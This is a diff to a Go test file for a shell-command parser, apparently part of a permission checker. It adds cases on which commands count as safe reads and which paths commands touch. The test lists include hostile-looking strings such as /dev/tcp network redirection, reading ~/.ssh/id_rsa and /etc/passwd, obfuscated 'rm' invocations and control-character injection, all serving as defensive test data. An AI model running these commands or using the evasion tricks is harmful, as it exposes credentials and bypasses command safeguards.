@@ -40,7 +40,7 @@ func TestReads(t *testing.T) {
 		"echo x > /dev/tcp/1.2.3.4/80", "cat < /dev/tcp/1.2.3.4/80", "ping x", "dig x", "curl x", "l\\s; r\\m x", "'rm' x", "r''m x", "$'\\x72m' x", "\"$(echo rm)\" x", "l?", "ls {a,b}", "cat ~/.ssh/id_rsa",
 		"ls \x00", "ls \x1b[2K", "ls \u202e", "ls \u2028rm", "ls \r rm", "'", "ls (", "cd", "cd a b", "timeout 5", "command", "ls {fd}>x", "ls 3>x", "cat <<E | sh\nrm a\nE", "bash <<E\n$x\nE",
 		"grep -R x .", "grep -nR x", "grep --dereference-recursive x", "rg -L x", "rg -nL x", "rg --follow x", "find -L .", "find . -follow", "find -files0-from x", "ls -LR", "ls -R --dereference", "diff -r a b", "diff -ur a b", "diff --recursive a b", "tree -l", "du -L", "du --files0-from=x",
-		"wc --files0-from=x", "wc --f=x", "sort --files0-from=x", "sort --fil=x", "file -f x", "file --files-from x", "md5sum -c x", "sha256sum --check x", "jq -n env", "jq -n '$ENV.A'", "jq -nf x", "jq --from-file x", "jq -L / x", "jq -n 'import \"a\" as $a; 1'", "jq -n -- env", "xargs jq -n env", "timeout 5 grep -R x",
+		"wc --files0-from=x", "wc --f=x", "sort --files0-from=x", "sort --fil=x", "file -f x", "file --files-from x", "md5sum -c x", "sha256sum --check x", "strings @/etc/x", "strings -- @x", "strings *", "jq modulemeta", "jq -n env", "jq -n '$ENV.A'", "jq -nf x", "jq --from-file x", "jq -L / x", "jq -n 'import \"a\" as $a; 1'", "jq -n -- env", "xargs jq -n env", "timeout 5 grep -R x",
 		"echo ./x | xargs -I echo echo", "echo ./x | xargs -tI echo echo", "echo ./x | xargs -Iecho echo", "echo ./x | xargs --replace=echo echo", "echo ./x | xargs -i {}", "echo . | xargs -I LANG= env LANG=./x echo", "xargs -a /etc/passwd echo", "xargs -I", "xargs -p echo",
 		"printf 'aaa%n' PATH; x", "printf '%-5.3n' PATH", "diff -l a b", "diff --paginate a b", "diff -ul a b", "diff *", "sort -T sub x", "sort -uTsub x", "sort --temp=sub x", "sort --files0-from=x", "uniq -- -x out",
 		"file -bCm x", "file -bp x", "file --preserve-date x", "file -bz x", "file --u x", "git grep -nO./x y", "git log --help", "git describe --dirty", "git describe --broken", "git log --remerge-diff", "git show --diff-merges=remerge",
@@ -132,6 +132,12 @@ func TestPaths(t *testing.T) {
 	for line, want := range map[string]string{
 		"cat a ../b /c": "a ../b /c", "grep foo a": "a", "grep -e foo a": "foo a", "grep -r /api src": "src", "grep -f/etc/x y": "/etc/x /etc/x y", "grep -f../x y": "/x ../x ../x y", "grep --file=../x y": "../x y",
 		"ls *.go": "*.go", "cat < ../x": "../x", "git log -- ../x": "../x", "git log main..dev": "", "git diff --no-index a b": "a b", "git diff /a /b": "/a /b", "echo /a": "", "echo /a/*": "/a/*",
+
+		// An option may have the pattern, or the name of a file, behind other letters.
+		"grep -ne. /c": "e. . /c", "rg -ie x /c": "e x /c", "egrep -he. /c": "e. . /c", "grep --reg=. /c": ". /c", "grep --exclude-from /c x a": "/c x a", "rg --ignore-file /c x a": "/c x a",
+		"grep -vf /c a": "f /c a", "grep -xFf /c a": "Ff f /c a", "rg -cf /c a": "f /c a", "grep -nfx a": "fx x a", "grep -n x a": "a", "grep -A5 x a": "5 a", "grep -A 5 x a": "5 x a",
+		"git grep -f/c x": "/c", "git grep -vf/c": "/c", "git grep -f c x": "c", "git -C d grep -vf c": "d/c", "git ls-files -oX/c": "/c", "git ls-files --exclude-f c": "c",
+		"git blame -S ../c x": "../c ../c", "git blame --ignore-revs-file=c x": "c", "git log -Sa/b": "", "git grep -- -fc": "",
 	} {
 		var got []string
 		for _, c := range Parse(line).Commands {
